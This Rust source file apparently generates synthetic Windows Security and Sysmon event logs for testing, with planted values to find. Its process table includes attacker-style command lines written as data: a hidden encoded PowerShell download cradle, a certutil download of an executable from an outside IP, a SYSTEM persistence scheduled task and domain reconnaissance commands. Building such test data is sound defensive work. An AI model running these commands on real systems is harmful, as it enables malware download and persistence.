//! `EventData` payloads of the Windows events.

use super::Gen;
use crate::needles::{Plant, Role};
use crate::out::{push_hex, push_ipv4, push_json_escaped, push_u64, push_uuid};

const DOMAIN_SID: &[u8] = b"S-1-5-21-3623811015-3361044348-30300820-";

/// (image path, command line), both already JSON-escaped.
const PROCESSES: &[(&str, &str)] = &[
    (
        r#"C:\\Windows\\System32\\svchost.exe"#,
        r#"C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"#,
    ),
    (
        r#"C:\\Windows\\System32\\svchost.exe"#,
        r#"C:\\Windows\\System32\\svchost.exe -k LocalServiceNetworkRestricted -p"#,
    ),
    (
        r#"C:\\Windows\\System32\\conhost.exe"#,
        r#"\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"#,
    ),
    (
        r#"C:\\Windows\\System32\\cmd.exe"#,
        r#"cmd.exe /c whoami /all"#,
    ),
    (
        r#"C:\\Windows\\System32\\cmd.exe"#,
        r#"C:\\Windows\\system32\\cmd.exe /c ipconfig /all"#,
    ),
    (
        r#"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#,
        r#"powershell.exe -NoProfile -ExecutionPolicy Bypass -File C:\\Scripts\\inventory.ps1"#,
    ),
    (
        r#"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"#,
        r#"powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"#,
    ),
    (
        r#"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"#,
        r#"\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer --lang=en-US --renderer-client-id=7"#,
    ),
    (
        r#"C:\\Windows\\System32\\rundll32.exe"#,
        r#"C:\\Windows\\system32\\rundll32.exe C:\\Windows\\system32\\shell32.dll,SHCreateLocalServerRunDll"#,
    ),
    (
        r#"C:\\Windows\\System32\\schtasks.exe"#,
        r#"schtasks /create /tn Updater /tr C:\\Users\\Public\\upd.exe /sc onlogon /ru SYSTEM"#,
    ),
    (r#"C:\\Windows\\System32\\net.exe"#, r#"net user /domain"#),
    (
        r#"C:\\Windows\\System32\\net.exe"#,
        r#"net group \"Domain Admins\" /domain"#,
    ),
    (
        r#"C:\\Windows\\System32\\certutil.exe"#,
        r#"certutil.exe -urlcache -split -f http://203.0.113.50/a.exe C:\\Users\\Public\\a.exe"#,
    ),
    (
        r#"C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"#,
        r#"C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding"#,
    ),
    (
        r#"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE"#,
        r#"\"C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE\""#,
    ),
    (
        r#"C:\\Windows\\explorer.exe"#,
        r#"C:\\Windows\\Explorer.EXE"#,
    ),
    (
        r#"C:\\Windows\\System32\\taskhostw.exe"#,
        r#"taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly"#,
    ),
    (
        r#"C:\\Windows\\System32\\msiexec.exe"#,
        r#"C:\\Windows\\system32\\msiexec.exe /V"#,
    ),
    (
        r#"C:\\Windows\\System32\\reg.exe"#,
        r#"reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run"#,
    ),
];
const PARENTS: &[&str] = &[
    r#"C:\\Windows\\System32\\services.exe"#,
    r#"C:\\Windows\\explorer.exe"#,
    r#"C:\\Windows\\System32\\svchost.exe"#,
    r#"C:\\Windows\\System32\\cmd.exe"#,
];
const BAD_USERS: &[&str] = &[
    "administrator",
    "admin",
    "Administrator",
    "guest",
    "test",
    "scanner",
    "user",
    "sql",
];
const LOGON_TYPES: &[u64] = &[3, 3, 3, 3, 3, 2, 10, 5, 7, 11];

impl Gen<'_> {
    fn kv_str(out: &mut Vec<u8>, key: &[u8], val: &[u8]) {
        out.push(b'"');
        out.extend_from_slice(key);
        out.extend_from_slice(b"\":\"");
        out.extend_from_slice(val);
        out.extend_from_slice(b"\",");
    }

    fn kv_num(out: &mut Vec<u8>, key: &[u8], val: u64) {
        out.push(b'"');
        out.extend_from_slice(key);
        out.extend_from_slice(b"\":");
        push_u64(out, val);
        out.push(b',');
    }

    fn hex_id(&mut self, out: &mut Vec<u8>, key: &[u8]) {
        out.push(b'"');
        out.extend_from_slice(key);
        out.extend_from_slice(b"\":\"0x");
        push_hex(out, self.rng.range(0x1_0000, 0xFF_FFFF), 6);
        out.extend_from_slice(b"\",");
    }

    fn subject_system(&self, out: &mut Vec<u8>) {
        out.extend_from_slice(b"\"SubjectUserSid\":\"S-1-5-18\",\"SubjectUserName\":\"");
        let host = self.computer.split(|&c| c == b'.').next().unwrap_or(b"");
        out.extend_from_slice(host);
        out.extend_from_slice(b"$\",\"SubjectDomainName\":\"CORP\",\"SubjectLogonId\":\"0x3e7\",");
    }

    /// Writes `TargetUserSid`, `TargetUserName` and `TargetDomainName` for a user.
    fn target_user(&mut self, out: &mut Vec<u8>, name: Option<&str>) {
        let (rank, user) = self.v.user(&mut self.rng);
        out.extend_from_slice(b"\"TargetUserSid\":\"");
        if name.is_some() {
            out.extend_from_slice(b"S-1-0-0");
        } else {
            out.extend_from_slice(DOMAIN_SID);
            push_u64(out, 1_100 + rank as u64);
        }
        out.extend_from_slice(b"\",\"TargetUserName\":\"");
        match name {
            Some(n) => push_json_escaped(out, n),
            None => out.extend_from_slice(user.as_bytes()),
        }
        out.extend_from_slice(b"\",\"TargetDomainName\":\"CORP\",");
    }

    fn ip_port(&mut self, out: &mut Vec<u8>, ip: Option<&str>, external: bool) {
        out.extend_from_slice(b"\"IpAddress\":\"");
        match ip {
            Some(ip) => out.extend_from_slice(ip.as_bytes()),
            None if external => push_ipv4(out, self.v.external_ip(&mut self.rng)),
            None => push_ipv4(out, self.v.internal_ip(&mut self.rng).1),
        }
        out.extend_from_slice(b"\",\"IpPort\":\"");
        push_u64(out, self.rng.range(1_024, 65_535));
        out.extend_from_slice(b"\"");
    }

    /// Writes the `EventData` members (without braces) and returns the planted field name.
    pub(super) fn event_data(
        &mut self,
        out: &mut Vec<u8>,
        id: u32,
        comp: u64,
        t: i64,
        plant: Option<Plant>,
    ) -> &'static str {
        match id {
            4624 | 4625 => {
                self.subject_system(out);
                let name = plant
                    .filter(|p| matches!(p.role, Role::User | Role::Email))
                    .map(|p| p.value);
                let bad = id == 4625 && name.is_none() && self.rng.chance(6_000);
                let bad_name = Some(*self.rng.pick(BAD_USERS)).filter(|_| bad);
                self.target_user(out, name.or(bad_name));
                if id == 4625 {
                    out.extend_from_slice(
                        b"\"Status\":\"0xc000006d\",\"FailureReason\":\"%%2313\",\"SubStatus\":\"",
                    );
                    out.extend_from_slice(if bad { b"0xc0000064" } else { b"0xc000006a" });
                    out.extend_from_slice(b"\",");
                } else {
                    self.hex_id(out, b"TargetLogonId");
                }
                let lt = *self.rng.pick(LOGON_TYPES);
                Self::kv_num(
                    out,
                    b"LogonType",
                    if id == 4625 && lt != 2 { 3 } else { lt },
                );
                Self::kv_str(
                    out,
                    b"LogonProcessName",
                    if lt == 3 { b"NtLmSsp " } else { b"User32 " },
                );
                Self::kv_str(
                    out,
                    b"AuthenticationPackageName",
                    if lt == 3 { b"NTLM" } else { b"Negotiate" },
                );
                Self::kv_str(
                    out,
                    b"WorkstationName",
                    if id == 4625 {
                        b"-"
                    } else {
                        &self.computer[..self.computer.len() - 17]
                    },
                );
                if id == 4624 {
                    out.extend_from_slice(b"\"LogonGuid\":\"{");
                    push_uuid(out, &mut self.rng);
                    out.extend_from_slice(b"}\",");
                }
                out.extend_from_slice(b"\"TransmittedServices\":\"-\",\"LmPackageName\":\"-\",\"KeyLength\":0,\"ProcessId\":\"0x");
                push_hex(out, 0x2a4 + comp, 3);
                out.extend_from_slice(
                    b"\",\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\",",
                );
                let ip = plant
                    .filter(|p| matches!(p.role, Role::Ipv4 | Role::Ipv6))
                    .map(|p| p.value);
                let external = id == 4625 && self.rng.chance(7_000);
                self.ip_port(out, ip, external);
                if id == 4624 {
                    out.extend_from_slice(
                        b",\"ImpersonationLevel\":\"%%1833\",\"ElevatedToken\":\"%%1842\"",
                    );
                }
                match plant.map(|p| p.role) {
                    Some(Role::Ipv4 | Role::Ipv6) => "Event.EventData.IpAddress",
                    Some(_) => "Event.EventData.TargetUserName",
                    None => "",
                }
            }
            4688 => {
                self.subject_system(out);
                out.extend_from_slice(b"\"NewProcessId\":\"0x");
                push_hex(out, self.rng.range(0x100, 0xFFFF), 4);
                out.extend_from_slice(b"\",\"NewProcessName\":\"");
                let (image, cmd) = *self.rng.pick(PROCESSES);
                let field = match plant {
                    Some(p) if p.role == Role::WinPath => {
                        push_json_escaped(out, p.value);
                        out.extend_from_slice(
                            b"\",\"TokenElevationType\":\"%%1936\",\"CommandLine\":\"\\\"",
                        );
                        push_json_escaped(out, p.value);
                        out.extend_from_slice(b"\\\" --silent");
                        "Event.EventData.NewProcessName"
                    }
                    Some(p) => {
                        out.extend_from_slice(if p.role == Role::AccessKey {
                            &br#"C:\\Program Files\\Amazon\\AWSCLIV2\\aws.exe","TokenElevationType":"%%1938","CommandLine":"aws.exe configure set aws_access_key_id "#[..]
                        } else {
                            br#"C:\\Windows\\System32\\curl.exe","TokenElevationType":"%%1938","CommandLine":"curl.exe -s -o C:\\Users\\Public\\out.txt http://"#
                        });
                        if p.role != Role::AccessKey {
                            push_ipv4(out, self.v.external_ip(&mut self.rng));
                        }
                        push_json_escaped(out, p.value);
                        "Event.EventData.CommandLine"
                    }
                    None => {
                        out.extend_from_slice(image.as_bytes());
                        out.extend_from_slice(
                            b"\",\"TokenElevationType\":\"%%1936\",\"CommandLine\":\"",
                        );
                        out.extend_from_slice(cmd.as_bytes());
                        ""
                    }
                };
                out.extend_from_slice(b"\",\"ProcessId\":\"0x");
                push_hex(out, self.rng.range(0x100, 0xFFFF), 4);
                out.extend_from_slice(b"\",\"TargetUserSid\":\"S-1-0-0\",\"TargetUserName\":\"-\",\"TargetDomainName\":\"-\",\"TargetLogonId\":\"0x0\",\"ParentProcessName\":\"");
                out.extend_from_slice(self.rng.pick(PARENTS).as_bytes());
                out.extend_from_slice(b"\",\"MandatoryLabel\":\"S-1-16-12288\"");
                field
            }
            1 | 3 => self.sysmon(out, id, t, plant),
            _ => {
                self.subject_system(out);
                self.target_user(out, None);
                match id {
                    4634 => out.extend_from_slice(b"\"TargetLogonId\":\"0x1a2b3c\",\"LogonType\":3"),
                    4672 => out.extend_from_slice(b"\"PrivilegeList\":\"SeSecurityPrivilege\\r\\n\\t\\t\\tSeBackupPrivilege\\r\\n\\t\\t\\tSeRestorePrivilege\\r\\n\\t\\t\\tSeDebugPrivilege\""),
                    4768 | 4769 => {
                        out.extend_from_slice(b"\"ServiceName\":\"");
                        out.extend_from_slice(if id == 4768 { b"krbtgt" } else { b"MSSQLSvc/SRV-SQL01.corp.example.com:1433" });
                        out.extend_from_slice(b"\",\"TicketOptions\":\"0x40810010\",\"Status\":\"0x0\",\"TicketEncryptionType\":\"");
                        out.extend_from_slice(if self.rng.chance(9_500) { b"0x12" } else { b"0x17" });
                        out.extend_from_slice(b"\",\"PreAuthType\":\"2\",");
                        self.ip_port(out, None, false);
                    }
                    4648 => {
                        out.extend_from_slice(b"\"TargetServerName\":\"SRV-FILE01.corp.example.com\",\"TargetInfo\":\"SRV-FILE01.corp.example.com\",");
                        out.extend_from_slice(b"\"ProcessName\":\"C:\\\\Windows\\\\System32\\\\svchost.exe\",");
                        self.ip_port(out, None, false);
                    }
                    4740 => out.extend_from_slice(b"\"CallerComputerName\":\"DC01\""),
                    4720 => out.extend_from_slice(b"\"SamAccountName\":\"svc-tmp\",\"UserPrincipalName\":\"-\",\"PrimaryGroupId\":\"513\",\"UserAccountControl\":\"%%2080 %%2082 %%2084\""),
                    _ => out.extend_from_slice(b"\"MemberName\":\"-\",\"GroupName\":\"Administrators\",\"GroupDomain\":\"Builtin\",\"GroupSid\":\"S-1-5-32-544\""),
                }
                ""
            }
        }
    }

    fn sysmon(&mut self, out: &mut Vec<u8>, id: u32, t: i64, plant: Option<Plant>) -> &'static str {
        let p = self.rng.index(PROCESSES.len());
        let (image, cmd) = PROCESSES[p];
        let (_, user) = self.v.user(&mut self.rng);
        out.extend_from_slice(b"\"RuleName\":\"-\",\"UtcTime\":\"");
        let mut iso = Vec::with_capacity(32);
        crate::out::push_iso_micros(&mut iso, t);
        out.extend_from_slice(&iso[..10]);
        out.push(b' ');
        out.extend_from_slice(&iso[11..23]);
        out.extend_from_slice(b"\",\"ProcessGuid\":\"{");
        push_uuid(out, &mut self.rng);
        out.extend_from_slice(b"}\",\"ProcessId\":");
        push_u64(out, self.rng.range(200, 20_000));
        out.extend_from_slice(b",\"Image\":\"");
        out.extend_from_slice(image.as_bytes());
        if id == 3 {
            out.extend_from_slice(b"\",\"User\":\"CORP\\\\");
            out.extend_from_slice(user.as_bytes());
            out.extend_from_slice(b"\",\"Protocol\":\"tcp\",\"Initiated\":true,\"SourceIsIpv6\":false,\"SourceIp\":\"");
            push_ipv4(out, self.v.internal_ip(&mut self.rng).1);
            out.extend_from_slice(b"\",\"SourcePort\":");
            push_u64(out, self.rng.range(49_152, 65_535));
            out.extend_from_slice(b",\"DestinationIsIpv6\":false,\"DestinationIp\":\"");
            push_ipv4(out, self.v.external_ip(&mut self.rng));
            out.extend_from_slice(b"\",\"DestinationPort\":443");
            return "";
        }
        out.extend_from_slice(b"\",\"CommandLine\":\"");
        out.extend_from_slice(cmd.as_bytes());
        out.extend_from_slice(
            b"\",\"CurrentDirectory\":\"C:\\\\Windows\\\\system32\\\\\",\"User\":\"CORP\\\\",
        );
        out.extend_from_slice(user.as_bytes());
        out.extend_from_slice(b"\",\"IntegrityLevel\":\"Medium\",\"Hashes\":\"MD5=");
        self.v.push_hex_id(out, 0x3D5, p as u64, 32);
        out.make_ascii_uppercase_tail(32);
        out.extend_from_slice(b",SHA256=");
        match plant {
            Some(pl) => out.extend_from_slice(pl.value.to_ascii_uppercase().as_bytes()),
            None => self.v.push_sha256(out, p as u64, true),
        }
        out.extend_from_slice(b",IMPHASH=");
        self.v.push_hex_id(out, 0x1A4, p as u64, 32);
        out.make_ascii_uppercase_tail(32);
        out.extend_from_slice(b"\",\"ParentImage\":\"");
        out.extend_from_slice(self.rng.pick(PARENTS).as_bytes());
        out.push(b'"');
        if plant.is_some() {
            "Event.EventData.Hashes"
        } else {
            ""
        }
    }
}

/// Upper-cases the last `n` bytes of a buffer in place.
trait UpperTail {
    fn make_ascii_uppercase_tail(&mut self, n: usize);
}

impl UpperTail for Vec<u8> {
    fn make_ascii_uppercase_tail(&mut self, n: usize) {
        let start = self.len().saturating_sub(n);
        self[start..].make_ascii_uppercase();
    }
}
